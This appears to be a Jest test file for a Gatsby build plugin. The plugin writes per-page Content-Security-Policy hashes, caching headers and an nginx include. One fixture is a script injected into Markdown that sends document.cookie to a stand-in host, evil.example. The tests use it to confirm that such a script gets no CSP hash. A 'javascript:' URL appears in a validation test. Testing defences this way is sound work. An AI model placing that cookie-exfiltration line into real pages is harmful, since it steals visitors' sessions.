/**
 * @jest-environment node
 *
 * public/_headers and the nginx include, written from a small built site in a temporary folder.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { cspHash } from "../../plugins/post-build/inline-scripts";
import { toNginxInclude } from "../../plugins/post-build/nginx-headers";
import { formOrigin, siteHeaders } from "../../plugins/post-build/security-headers";
import { findPages } from "../../plugins/post-build/site-files";
import { writeSecurityHeaders } from "../../plugins/post-build/write-security-headers";

const loader = (pagePath: string) => `/*<![CDATA[*/window.pagePath="${pagePath}";/*]]>*/`;
const editorScript = "new Image().src='https://evil.example/?'+document.cookie";
const termsMarkdown = `<p>These terms apply.</p>\n<script>${editorScript}</script>`;

/** A page as Gatsby builds it: `body` where the page renders its Markdown. */
const html = (pagePath: string, body = "") =>
  `<!DOCTYPE html><html><head><script type="application/ld+json">{}</script></head><body>` +
  `<div id="___gatsby"><div class="prose">${body}</div></div>` +
  `<script id="gatsby-script-loader">${loader(pagePath)}</script>` +
  `<script>window.___webpackCompilationHash="abc";</script></body></html>`;

const files: Record<string, string> = {
  "index.html": html("/"),
  "about/index.html": html("/about"),
  "terms/index.html": html("/terms", termsMarkdown),
  "404.html": html("/404.html"),
  "404/index.html": html("/404/"),
  "_gatsby/slices/_gatsby-scripts-1.html": "<script>slice()</script>",
  "page-data/404.html/page-data.json": "{}",
  "app-707c4a314819745e08c7.js": "",
  "styles.9bdfcd88dfaacee55209.css": "",
  "app-707c4a314819745e08c7.js.map": "",
  "static/abc/photo.jpg": "",
};

let siteDir: string;
let warn: jest.Mock;
let headersFile: string;
let nginxFile: string;

beforeAll(() => {
  siteDir = fs.mkdtempSync(path.join(os.tmpdir(), "security-headers-"));
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(siteDir, "public", file)), { recursive: true });
    fs.writeFileSync(path.join(siteDir, "public", file), text);
  }
  warn = jest.fn();
  writeSecurityHeaders({
    siteDir,
    formEndpoint: "https://formspree.io/f/abcdwxyz",
    markdown: [
      { fileAbsolutePath: path.join(siteDir, "content/pages/terms.md"), html: termsMarkdown },
      { fileAbsolutePath: path.join(siteDir, "content/pages/about.md"), html: "<p>About</p>" },
    ],
    warn,
  });
  headersFile = fs.readFileSync(path.join(siteDir, "public/_headers"), "utf8");
  nginxFile = fs.readFileSync(path.join(siteDir, "nginx/headers.conf"), "utf8");
});

afterAll(() => fs.rmSync(siteDir, { recursive: true, force: true }));

/** The rules of a _headers file: path → header lines. */
function rules(text: string): Map<string, string[]> {
  const blocks = text.split(/\n\n+/).filter((block) => block.startsWith("/"));
  return new Map(
    blocks.map((block) => [
      block.split("\n")[0]!,
      block
        .split("\n")
        .slice(1)
        .map((l) => l.trim())
        .filter(Boolean),
    ]),
  );
}
const policyOf = (lines: string[] | undefined) =>
  lines?.find((line) => line.startsWith("Content-Security-Policy: "))?.slice("Content-Security-Policy: ".length);

describe("writeSecurityHeaders", () => {
  it("gives an editor's script in Markdown no hash, and warns naming the file", () => {
    const terms = policyOf(rules(headersFile).get("/terms"));
    expect(terms).toContain(cspHash(loader("/terms")));
    expect(terms).toContain(cspHash('window.___webpackCompilationHash="abc";'));
    expect(terms).not.toContain(cspHash(editorScript));
    expect(nginxFile).not.toContain(cspHash(editorScript));
    expect(warn).toHaveBeenCalledTimes(1);
    expect(warn.mock.calls[0]![0]).toMatch(/^content\/pages\/terms\.md contains a <script> in its Markdown/);
  });

  it("writes one policy per page address, with that page's hashes and the form service's origin", () => {
    const all = rules(headersFile);
    expect(policyOf(all.get("/about"))).toBe(
      `default-src 'self'; script-src 'self' ${cspHash(loader("/about"))} ${cspHash('window.___webpackCompilationHash="abc";')}; ` +
        "style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self' https://formspree.io; " +
        "form-action 'self' https://formspree.io; object-src 'none'; base-uri 'self'; frame-ancestors 'none'",
    );
    expect(policyOf(all.get("/about/"))).toBe(policyOf(all.get("/about")));
    expect(policyOf(all.get("/404.html"))).toContain(cspHash(loader("/404.html")));
    expect([...all.keys()].filter((key) => policyOf(all.get(key)))).toEqual([
      "/",
      "/index.html",
      "/404",
      "/404/",
      "/404/index.html",
      "/404.html",
      "/about",
      "/about/",
      "/about/index.html",
      "/terms",
      "/terms/",
      "/terms/index.html",
    ]);
  });

  it("never lets two rules that match one path set the same header (hosts would join them with commas)", () => {
    const all = rules(headersFile);
    const matches = (rule: string, target: string) =>
      rule.endsWith("*") ? target.startsWith(rule.slice(0, -1)) : rule === target;
    for (const target of [...all.keys()].map((rule) => rule.replace(/\*$/, "x"))) {
      const names = [...all.entries()]
        .filter(([rule]) => matches(rule, target))
        .flatMap(([, lines]) => lines.map((line) => line.split(":")[0]));
      expect({ target, names }).toEqual({ target, names: [...new Set(names)] });
    }
  });

  it("makes content-hashed files and /static/ immutable, and has HTML and page-data revalidate", () => {
    const all = rules(headersFile);
    const immutable = "Cache-Control: public, max-age=31536000, immutable";
    const revalidate = "Cache-Control: public, max-age=0, must-revalidate";
    expect(all.get("/app-707c4a314819745e08c7.js")).toEqual([immutable]);
    expect(all.get("/styles.9bdfcd88dfaacee55209.css")).toEqual([immutable]);
    expect(all.has("/app-707c4a314819745e08c7.js.map")).toBe(false);
    expect(all.get("/static/*")).toEqual([immutable]);
    expect(all.get("/page-data/*")).toEqual([revalidate]);
    expect(all.get("/terms")).toContain(revalidate);
    expect(all.get("/*")).toEqual([
      "Strict-Transport-Security: max-age=31536000",
      "X-Content-Type-Options: nosniff",
      "Referrer-Policy: strict-origin-when-cross-origin",
      "Permissions-Policy: camera=(), microphone=(), geolocation=()",
      "X-Frame-Options: DENY",
      "Cross-Origin-Resource-Policy: same-origin",
    ]);
  });

  it("gives nginx the same policy, with every header in every location and `always`", () => {
    const terms = nginxFile.split("\n\n").find((block) => block.startsWith('location = "/terms" {'))!;
    expect(terms).toContain(
      `add_header Content-Security-Policy "${policyOf(rules(headersFile).get("/terms"))}" always;`,
    );
    expect(terms).toContain('try_files "/terms/index.html" =404;');
    for (const block of nginxFile.split("\n\n").filter((b) => b.startsWith("location"))) {
      expect(block).toContain('add_header Strict-Transport-Security "max-age=31536000" always;');
      expect(block).toContain('add_header Cross-Origin-Resource-Policy "same-origin" always;');
      expect(block.match(/add_header/g)!.length).toBe(block.match(/ always;/g)!.length);
    }
    expect(nginxFile).toContain('location = "/terms/" {');
    expect(nginxFile).toMatch(/location = "\/terms\/index\.html" \{[^}]*return 301 "\/terms";/);
  });
});

describe("findPages", () => {
  it("maps about/index.html to /about (trailingSlash: never), and skips Gatsby's fragments and data", () => {
    expect(findPages(path.join(siteDir, "public")).map((page) => [page.path, page.file])).toEqual([
      ["/", "index.html"],
      ["/404", "404/index.html"],
      ["/404.html", "404.html"],
      ["/about", "about/index.html"],
      ["/terms", "terms/index.html"],
    ]);
  });
});

describe("formOrigin", () => {
  it("keeps scheme, host and port of the endpoint", () => {
    expect(formOrigin("https://formspree.io/f/abcd")).toBe("https://formspree.io");
    expect(formOrigin("http://127.0.0.1:9201/f/quote")).toBe("http://127.0.0.1:9201");
  });

  it("refuses an endpoint that is not a web address", () => {
    expect(() => formOrigin("javascript:alert(1)")).toThrow(/not http/);
    expect(() => formOrigin("formspree.io/f/abcd")).toThrow();
  });
});

describe("toNginxInclude", () => {
  it("refuses a value nginx would read as a variable", () => {
    const site = siteHeaders({ pages: [], hashedFiles: ["/a$b-0123456789abcdef0123.js"] }, "https://formspree.io");
    expect(() => toNginxInclude(site)).toThrow(/cannot write/);
  });
});
